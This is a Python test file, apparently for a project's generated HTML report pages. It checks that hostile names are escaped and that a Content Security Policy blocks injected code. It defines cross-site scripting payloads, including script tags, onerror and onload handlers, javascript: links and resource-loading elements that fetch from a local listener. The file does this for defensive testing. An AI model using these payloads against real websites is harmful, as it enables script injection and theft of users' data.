"""Pages run nothing but their own script and load nothing, whatever names they show."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
import torch
from close_up import NAMES, PAIRS, make_pair_explorer
from compared import compare
from crops import make_explorer, write_crops
from flipped import flip_book
from joined_places import matching_pair
from playwright.sync_api import Browser, Page

from lfs_core.book.sweep import Point
from lfs_core.book.sweep_page import write_sweep_page
from lfs_core.evaluation.results import Results
from lfs_core.training.decoders import LinearDecoder
from lfs_core.training.embedding import TrainingSet
from lfs_core.training.rows import Rows
from lfs_core.viz.fit_report import write_fit_report
from lfs_core.viz.leaderboard import write_leaderboard
from lfs_core.viz.report import write_report
from lfs_core.viz.views.methods import MethodsFigure

RUN = "<script>window.hacked=1</script><img src=x onerror=window.hacked=1>"
EVIL = (
    f"x\"'></script></style></title>{RUN}<!--<script>{{{{ 7*7 }}}}\u2028\u202e\x00"
    "';alert(1);//<svg onload=alert(1)><a href=javascript:alert(1)>\u200f"
)
FILE = EVIL.replace("/", "\u2215").replace("\x00", "")[:80]  # what a file may be called
PAGES = ("report", "fit", "board", "sweep", "retrieval", "pair", "methods", "flips", "matches")
# What a name would have to bring about to do harm; {} is the address of somebody who listens.
ATTACK = """<script>window.hacked = 1; fetch("{0}/script")</script>
<script type="module">window.hacked = 1; fetch("{0}/module")</script>
<script src="{0}/src"></script><img src="{0}/img" onerror="window.hacked = 1">
<link rel="stylesheet" href="{0}/css"><iframe src="{0}/frame"></iframe>
<style>body {{ background: url("{0}/style") }} @import "{0}/import";</style>
<object data="{0}/object"></object><video src="{0}/video"></video>
<svg onload="window.hacked = 1"></svg><base href="{0}/base/"><img src="relative">"""


@pytest.fixture(scope="module")
def pages(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder with one page of each kind, all of whose names are hostile."""
    folder = tmp_path_factory.mktemp("pages")
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("LFS_CACHE", str(folder / "cache"))
        explanation = compare()["signed"][0]
        explanation.settings.update({"embedder": EVIL, EVIL: EVIL})
        write_report(explanation, folder / "report.html", [EVIL, EVIL], [EVIL])
        _write_fit(folder / "fit.html")
        write_leaderboard(_results(), folder / "board.html")
        point = Point({EVIL: EVIL}, EVIL, None, 1.0, {EVIL: 1.0})
        failed = Point({EVIL: 2}, EVIL, EVIL, None, {})
        write_sweep_page([point, failed], EVIL, {EVIL: [EVIL, 2]}, folder / "sweep.html")
        write_crops(folder / "crops")
        (folder / "crops" / FILE).mkdir()
        for name in ("00.png", "01.png"):
            (folder / "crops" / "coffee" / name).rename(folder / "crops" / FILE / (FILE + name))
        explorer = make_explorer(folder / "crops", top=3, bottom=1)
        names = explorer.contents["names"]
        query = next(place for place, name in enumerate(names) if FILE in name)
        explorer.save(folder / "retrieval.html", [query, 0])
        pairs = make_pair_explorer(names=[EVIL, *NAMES[1:]])
        pairs.save(folder / "pair.html", PAIRS)
        MethodsFigure({EVIL: compare()["ramps"]}).save(folder / "methods.html")
        flip_book(True).save(folder / "flips.html")
        matching = matching_pair(method=EVIL, settings=explanation.settings)
        write_report(matching, folder / "matches.html", [EVIL, EVIL])
    return folder


def _write_fit(path: Path) -> None:
    h, x = torch.rand(40, 3), torch.rand(40, 3, 4, 4)
    decoder = LinearDecoder.fit(h, x, ridge=1.0)
    decoder.info = {
        "embedder": EVIL,
        "data": EVIL,
        "seed": 0,
        "images": {"test": 4},
        "identities": {"test": 2},
        "loss": 0.2,
        "loss_mean_image": 0.1,
        "r2": -1.0,
        "ridge": 1.0,
        "errors_when_choosing": {"ridge": {"1": 0.1, "2": 0.2}},
    }
    data = TrainingSet(
        Rows.of(h, (x * 255).byte()), [f"{EVIL}{k // 2}" for k in range(40)], frozenset()
    )
    write_fit_report(decoder, data, {EVIL: EVIL}, path)


def _results() -> Results:
    manifest = {
        **dict.fromkeys(("embedder", "pairs", "commit", "finished", "command"), EVIL),
        "number": 6,
        "threshold": 0.3,
        "seconds": 1,
        "seeds": 1,
        "versions": {EVIL: EVIL},
    }
    explainers = ("centre", "random", f"module:{EVIL.replace(',', '')}")
    curves = torch.rand(6, 3, generator=torch.Generator().manual_seed(0))
    return Results(
        manifest,
        same=torch.arange(6) < 3,
        similarity=torch.linspace(1, 0, 6),
        seed=torch.zeros(6, dtype=torch.long),
        measured={name: {"selectivity,every=10": curves} for name in explainers},
        problems={explainers[-1]: {0: EVIL}},
    )


class _Heard(BaseHTTPRequestHandler):
    paths: list[str]

    def do_GET(self) -> None:
        self.paths.append(self.path)
        self.send_response(200)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.end_headers()

    def log_message(self, *_: object) -> None:
        pass


@pytest.fixture
def listener() -> Iterator[tuple[str, list[str]]]:
    """The address of somebody who listens, and what was asked for there."""
    heard: list[str] = []
    server = ThreadingHTTPServer(("127.0.0.1", 0), type("Heard", (_Heard,), {"paths": heard}))
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}", heard
    server.shutdown()
    server.server_close()


def visit(browser: Browser, path: Path) -> tuple[Page, list[str]]:
    """A page that has settled, and what it asked for, said or complained of meanwhile."""
    page, events = browser.new_context().new_page(), []
    page.on("request", lambda asked: events.append(asked.url))
    page.on("pageerror", lambda error: events.append(str(error)))
    page.on("console", lambda said: said.type == "error" and events.append(said.text))
    page.on("dialog", lambda dialog: (events.append(dialog.message), dialog.dismiss()))
    page.goto(path.as_uri(), wait_until="networkidle")
    for button in page.locator("details summary").all():
        button.click()
    inside = ("data:", "blob:", path.as_uri())
    return page, [event for event in events if not event.startswith(inside)]


@pytest.mark.parametrize("name", PAGES)
def test_names_do_nothing(name: str, browser: Browser, pages: Path) -> None:
    page, events = visit(browser, pages / f"{name}.html")
    assert events == []
    assert page.evaluate("window.hacked === undefined")
    assert page.locator("img[src='x'], svg[onload], [href^='javascript']").count() == 0
    if name in (
        "retrieval",
        "pair",
        "methods",
        "flips",
        "matches",
    ):  # and the page's own script ran
        assert page.locator(".lfs-view").count() == 1
    if name != "flips":  # names are shown, not lost, and turn nothing round
        text = page.locator("body").inner_text()
        assert "<script>window.hacked=1<" in text
        assert "\u202e" not in text and "\u2028" not in text
    page.context.close()


@pytest.mark.parametrize("name", PAGES)
def test_even_code_in_the_page_can_do_nothing(
    name: str, browser: Browser, pages: Path, listener: tuple[str, list[str]], tmp_path: Path
) -> None:
    """Were something not escaped, the policy would still keep it from running and loading."""
    address, heard = listener
    html = (pages / f"{name}.html").read_text("utf-8")
    attacked = tmp_path / f"{name}.html"
    attacked.write_text(html.replace("</h1>", "</h1>" + ATTACK.format(address), 1), "utf-8")
    page, events = visit(browser, attacked)
    assert page.evaluate("window.hacked === undefined")
    assert heard == []
    assert any("Content Security Policy" in event for event in events)
    # The same in a page without a policy is heard: the test can tell.
    if name == "report":
        bare = tmp_path / "bare.html"
        bare.write_text(f"<!DOCTYPE html><body>{ATTACK.format(address)}", "utf-8")
        page, _ = visit(browser, bare)
        assert page.evaluate("window.hacked === 1") and "/script" in heard and "/img" in heard
    page.context.close()
